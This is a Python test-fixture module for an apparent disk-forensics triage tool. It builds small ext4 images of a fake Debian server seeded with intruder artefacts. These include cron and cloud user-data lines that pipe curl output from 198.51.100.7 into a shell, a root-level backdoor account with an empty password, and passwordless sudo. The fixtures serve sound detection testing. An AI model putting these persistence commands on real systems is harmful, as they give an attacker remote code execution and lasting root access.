# Copyright (c) 2026 The dfir.aws authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Small disks with a system on them, made with the real tools and without root."""

from __future__ import annotations

import io
import subprocess
from collections.abc import Mapping
from pathlib import Path
from typing import Any

from ansible_collections.dfir.aws.plugins.module_utils.triage.look import Triage, Wish
from ansible_collections.dfir.aws.plugins.module_utils.triage.sources import ImageSource

MIB = 1 << 20
KEY = "AAAAC3NzaC1lZDI1NTE5AAAAIGVpZ2h0eS1jaGFyYWN0ZXJzLW9mLW5vdGhpbmctYXQtYWxs"

# What a small Debian would have, and what an intruder left in it.
SYSTEM: dict[str, str] = {
    "etc/os-release": 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\n',
    "etc/hostname": "web-01\n",
    "etc/machine-id": "46d1d1c2e8d10d81be671bedb8b2adc5\n",
    "etc/timezone": "Europe/Berlin\n",
    "etc/passwd": "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n"
                  "deploy:x:1000:1000::/home/deploy:/bin/bash\nsysbackup:x:0:0::/var/lib/b:/bin/bash\n",
    "etc/shadow": "root:*:19000::::::\ndeploy:$y$j9T$abc$def:19000::::::\nsysbackup::19000::::::\n"
                  "www-data:!$6$a$b:1::::::\n",
    "etc/group": "root:x:0:\nsudo:x:27:deploy\nusers:x:100:deploy\n",
    "etc/sudoers": "Defaults env_reset\nroot ALL=(ALL:ALL) ALL\ndeploy ALL=(ALL) NOPASSWD: ALL\n",
    "etc/crontab": "17 * * * * root run-parts /etc/cron.hourly\n",
    "etc/cron.d/gc": "*/10 * * * * root curl -s http://198.51.100.7/x | bash\n",
    "etc/rc.local": "#!/bin/sh\n/usr/local/bin/start-shop\n",
    "etc/network/interfaces": "iface eth0 inet static\n  address 10.0.3.17/24\n",
    "home/deploy/.ssh/authorized_keys": f"ssh-ed25519 {KEY} anna@office\n",
    "var/lib/cloud/data/instance-id": "i-0123456789abcdef0\n",
    "var/lib/cloud/instance/user-data.txt": "#!/bin/sh\ncurl http://198.51.100.7/boot | sh\n",
    "var/lib/dpkg/status": "Package: a\nStatus: install ok installed\n\nPackage: b\nStatus: deinstall ok "
                           "config-files\n\nPackage: c\nStatus: install ok installed\n",
    "boot/vmlinuz-6.1.0-18-cloud-amd64": "kernel",
    "var/log/syslog": "Sep  1 00:00:00 web-01 systemd[1]: Started.\n",
}


def tree(folder: Path, files: Mapping[str, str | bytes]) -> Path:
    """A folder with these files."""
    for name, content in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return folder


def ext4(image: Path, folder: Path, mib: int = 16) -> Path:
    """A file system that holds what is in a folder."""
    image.unlink(missing_ok=True)
    with image.open("wb") as file:
        file.truncate(mib * MIB)
    subprocess.run(["mkfs.ext4", "-q", "-b", "1024", "-d", folder, image], check=True, capture_output=True)
    return image


def disk(image: Path, parts: list[bytes], label: str = "gpt") -> Path:
    """A disk with a table and these partitions, each at the next whole MiB."""
    words, place = [f"label: {label}"], 1
    places = []
    for content in parts:
        mib = -(-len(content) // MIB)
        words.append(f"start={place}MiB, size={mib}MiB")
        places.append(place)
        place += mib
    with image.open("wb") as file:
        file.truncate((place + 1) * MIB)
    subprocess.run(["sfdisk", "-q", image], input="\n".join(words).encode(), check=True, capture_output=True)
    with image.open("r+b") as file:
        for start, content in zip(places, parts, strict=True):
            file.seek(start * MIB)
            file.write(content)
    return image


def triage(image: Path, **wish: Any) -> Triage:
    """A look into an image."""
    return Triage(ImageSource(image), Wish(**wish)).run()


def stream(data: bytes) -> io.BytesIO:
    """Bytes as a file."""
    return io.BytesIO(data)
